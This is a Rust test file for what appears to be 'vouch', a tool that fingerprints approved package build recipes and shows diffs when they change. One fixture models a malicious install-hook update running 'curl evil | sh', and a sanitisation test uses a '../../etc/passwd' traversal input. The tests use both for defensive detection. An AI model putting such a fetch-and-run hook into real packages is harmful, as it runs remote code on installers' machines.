use vouch::review::{
    canonical, clean, compare, content_of, fingerprint, mark_changes, render_diff, sanitize,
    show_file, ReviewRecord, ReviewStatus, ReviewStore, ReviewedFile,
};

fn recipe(install: &str) -> Vec<ReviewedFile> {
    vec![
        ReviewedFile::new("PKGBUILD", "pkgname=foo\nbuild() { make; }\n"),
        ReviewedFile::new("foo.install", install),
    ]
}

/// A store whose records are kept in memory, by their paths.
struct Shelf {
    store: ReviewStore,
    path: Option<String>,
    record: Option<ReviewRecord>,
}

impl Shelf {
    fn take(&mut self, package: &str) -> Option<ReviewRecord> {
        if self.path.as_deref() == Some(self.store.record_path(package).as_str()) {
            self.record.take()
        } else {
            None
        }
    }
}

#[test]
fn new_then_unchanged_then_changed() {
    let mut shelf = Shelf {
        store: ReviewStore::open("/data/reviews"),
        path: None,
        record: None,
    };

    let v1 = recipe("post_install() { echo hi; }\n");
    let loaded = shelf.take("foo");
    assert!(matches!(shelf.store.status(loaded, &v1), ReviewStatus::New));

    shelf.record = Some(shelf.store.approve("foo", v1.clone(), 8, 1000, false));
    shelf.path = Some(shelf.store.record_path("foo"));
    let loaded = shelf.take("foo");
    match shelf.store.status(loaded, &v1) {
        ReviewStatus::Unchanged { record } => shelf.record = Some(record),
        other => panic!("expected Unchanged, got {other:?}"),
    }

    // A malicious update changes the install hook.
    let v2 = recipe("post_install() { curl evil | sh; }\n");
    let loaded = shelf.take("foo");
    match shelf.store.status(loaded, &v2) {
        ReviewStatus::Changed { previous, .. } => {
            let diff = render_diff(&previous, &v2);
            assert!(diff.contains("foo.install"));
            assert!(diff.contains("+post_install() { curl evil | sh; }"));
            assert!(diff.contains("-post_install() { echo hi; }"));
        }
        other => panic!("expected Changed, got {other:?}"),
    }
}

#[test]
fn fingerprint_is_order_independent() {
    let a = vec![
        ReviewedFile::new("PKGBUILD", "x"),
        ReviewedFile::new("a.install", "y"),
    ];
    let b = vec![
        ReviewedFile::new("a.install", "y"),
        ReviewedFile::new("PKGBUILD", "x"),
    ];
    assert_eq!(fingerprint(&a), fingerprint(&b));
}

#[test]
fn forget_removes_record() {
    let mut shelf = Shelf {
        store: ReviewStore::open("/data/reviews"),
        path: None,
        record: None,
    };
    let v = recipe("post_install() { :; }\n");
    shelf.record = Some(shelf.store.approve("bar", v, 0, 1, false));
    shelf.path = Some(shelf.store.record_path("bar"));

    let mut forget = |package: &str| {
        let path = shelf.store.forget(package);
        if shelf.path.as_deref() == Some(path.as_str()) {
            shelf.path = None;
            shelf.record = None;
            true
        } else {
            false
        }
    };
    assert!(forget("bar"));
    assert!(!forget("bar"));
    let loaded = shelf.take("bar");
    assert!(matches!(
        shelf.store.status(loaded, &recipe("x")),
        ReviewStatus::New
    ));
}

#[test]
fn approval_keeps_everything() {
    let store = ReviewStore::open("/data/reviews");
    let files = recipe("x\n");
    let record = store.approve("foo", files.clone(), 42, 99, true);
    assert_eq!(record.package, "foo");
    assert_eq!(record.score_at_approval, 42);
    assert_eq!(record.approved_at, 99);
    assert!(record.build_network);
    assert_eq!(record.files, files);
    assert_eq!(record.fingerprint, fingerprint(&files));
    assert_eq!(record.fingerprint.len(), 64);
}

#[test]
fn canonical_form_is_sorted() {
    let files = vec![
        ReviewedFile::new("b", "2"),
        ReviewedFile::new("a", "1\n"),
        ReviewedFile::new("b", "3"),
    ];
    assert_eq!(
        canonical(&files),
        "=== a ===\n1\n\n=== b ===\n2\n=== b ===\n3\n"
    );
    assert_eq!(canonical(&[]), "");
    // The digest of the empty text.
    assert_eq!(
        fingerprint(&[]),
        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
    );
}

#[test]
fn same_canonical_form_is_not_enough() {
    // One file whose content looks like the header of another.
    let store = ReviewStore::open("/data/reviews");
    let one = vec![ReviewedFile::new("a", "x\n=== b ===\ny")];
    let two = vec![ReviewedFile::new("a", "x"), ReviewedFile::new("b", "y")];
    assert_eq!(fingerprint(&one), fingerprint(&two));
    let record = store.approve("p", one, 0, 0, false);
    assert!(matches!(
        store.status(Some(record), &two),
        ReviewStatus::Changed { .. }
    ));
}

#[test]
fn order_of_files_does_not_change_a_recipe() {
    let store = ReviewStore::open("/data/reviews");
    let record = store.approve("p", recipe("x"), 0, 0, false);
    let mut swapped = recipe("x");
    swapped.reverse();
    assert!(matches!(
        store.status(Some(record), &swapped),
        ReviewStatus::Unchanged { .. }
    ));
}

#[test]
fn changed_recipe_gives_its_fingerprint() {
    let store = ReviewStore::open("/data/reviews");
    let record = store.approve("p", recipe("x"), 0, 0, false);
    match store.status(Some(record), &recipe("y")) {
        ReviewStatus::Changed {
            previous,
            current_fingerprint,
        } => {
            assert_eq!(current_fingerprint, fingerprint(&recipe("y")));
            assert_eq!(previous.fingerprint, fingerprint(&recipe("x")));
        }
        other => panic!("expected Changed, got {other:?}"),
    }
}

#[test]
fn diff_is_exact() {
    let store = ReviewStore::open("/data/reviews");
    let old = vec![
        ReviewedFile::new("PKGBUILD", "a\nb\nc\n"),
        ReviewedFile::new("gone.install", "x"),
        ReviewedFile::new("same", "s"),
    ];
    let new = vec![
        ReviewedFile::new("same", "s"),
        ReviewedFile::new("PKGBUILD", "a\nB\nc\n"),
        ReviewedFile::new("added.install", "y\n"),
    ];
    let record = store.approve("p", old, 0, 0, false);
    assert_eq!(
        render_diff(&record, &new),
        "--- PKGBUILD\n a\n-b\n+B\n c\n--- added.install\n+y\n--- gone.install\n-x\n"
    );
}

#[test]
fn empty_files_are_shown_when_added_or_removed() {
    let store = ReviewStore::open("/data/reviews");
    let plain = || vec![ReviewedFile::new("PKGBUILD", "x\n")];
    let with_hook = || vec![ReviewedFile::new("PKGBUILD", "x\n"), ReviewedFile::new("a.install", "")];
    let record = store.approve("p", plain(), 0, 0, false);
    assert_eq!(render_diff(&record, &with_hook()), "--- a.install\n");
    let record = store.approve("p", with_hook(), 0, 0, false);
    assert_eq!(render_diff(&record, &plain()), "--- a.install\n");
    assert_eq!(render_diff(&record, &with_hook()), "");
}

#[test]
fn nothing_differs_no_diff() {
    let store = ReviewStore::open("/data/reviews");
    let record = store.approve("p", recipe("x"), 0, 0, false);
    let mut swapped = recipe("x");
    swapped.reverse();
    assert_eq!(render_diff(&record, &swapped), "");
}

#[test]
fn large_diff_gives_back_both_sides() {
    let store = ReviewStore::open("/data/reviews");
    let old: String = (0..300).map(|i| format!("line {}\n", i % 7)).collect();
    let new: String = (0..280).map(|i| format!("line {}\n", (i * 3) % 11)).collect();
    let record = store.approve("p", vec![ReviewedFile::new("f", &old)], 0, 0, false);
    let diff = render_diff(&record, &[ReviewedFile::new("f", &new)]);
    let body = diff.strip_prefix("--- f\n").unwrap();
    let mut was = String::new();
    let mut is = String::new();
    for line in body.split_inclusive('\n') {
        let (mark, text) = line.split_at(1);
        if mark != "+" {
            was.push_str(text);
        }
        if mark != "-" {
            is.push_str(text);
        }
    }
    assert_eq!(was, old);
    assert_eq!(is, new);
}

#[test]
fn every_line_of_a_diff_is_marked() {
    let store = ReviewStore::open("/data/reviews");
    let record = store.approve("p", vec![ReviewedFile::new("f", "a\r\nb\rc\n\nd")], 0, 0, false);
    let diff = render_diff(&record, &[ReviewedFile::new("f", "a\r\nB\rc\n\nd\n")]);
    assert_eq!(diff, "--- f\n a\r\n-b\r\n+B\r\n c\n \n-d\n+d\n");
    assert!(diff.split_inclusive('\n').skip(1).all(|l| l.starts_with(['-', '+', ' '])));
}

#[test]
fn changes_are_marked() {
    let changes = vec![
        (true, true, "kept\n".to_string()),
        (true, false, "out".to_string()),
        (false, true, "in\n".to_string()),
    ];
    assert_eq!(mark_changes(&changes), " kept\n-out\n+in\n");
    assert_eq!(mark_changes(&vec![]), "");
    assert_eq!(show_file("f", &changes), "--- f\n kept\n-out\n+in\n");
}

#[test]
fn first_file_of_a_name_counts() {
    let files = vec![ReviewedFile::new("a", "1"), ReviewedFile::new("a", "2")];
    assert_eq!(content_of(&files, "a"), "1");
    assert_eq!(content_of(&files, "b"), "");
}

#[test]
fn stems_are_single_components() {
    assert_eq!(sanitize("linux-git_1.0+x"), "linux-git_1.0+x");
    assert_eq!(sanitize("../../etc/passwd"), ".._.._etc_passwd");
    assert_eq!(sanitize("a b/ü"), "a_b__");
    assert_eq!(clean("a b/ü"), "a_b__");
    assert_eq!(clean(".."), "..");
    for name in ["", ".", ".."] {
        let stem = sanitize(name);
        assert_eq!(
            stem,
            format!("_{}", fingerprint(&[ReviewedFile::new("name", name)]))
        );
        assert_eq!(stem.len(), 65);
    }
}

#[test]
fn records_live_below_the_root() {
    let store = ReviewStore::open_default(None, Some("/home/me")).unwrap();
    assert_eq!(store.root(), "/home/me/.local/share/vouch/reviews");
    assert_eq!(
        store.record_path("foo"),
        "/home/me/.local/share/vouch/reviews/foo.json"
    );
    assert_eq!(store.forget("foo"), store.record_path("foo"));
    assert!(ReviewStore::open_default(None, None).is_none());
}

#[test]
fn records_are_compared_by_fingerprint_and_files() {
    let record = |fp: &str| ReviewRecord {
        package: "p".to_string(),
        fingerprint: fp.to_string(),
        approved_at: 0,
        score_at_approval: 0,
        build_network: false,
        files: recipe("x"),
    };
    assert!(matches!(
        compare(Some(record("f")), "f".to_string(), &recipe("x")),
        ReviewStatus::Unchanged { .. }
    ));
    assert!(matches!(
        compare(Some(record("f")), "g".to_string(), &recipe("x")),
        ReviewStatus::Changed { .. }
    ));
    assert!(matches!(
        compare(Some(record("f")), "f".to_string(), &recipe("y")),
        ReviewStatus::Changed { .. }
    ));
    assert!(matches!(
        compare(None, "f".to_string(), &recipe("x")),
        ReviewStatus::New
    ));
}
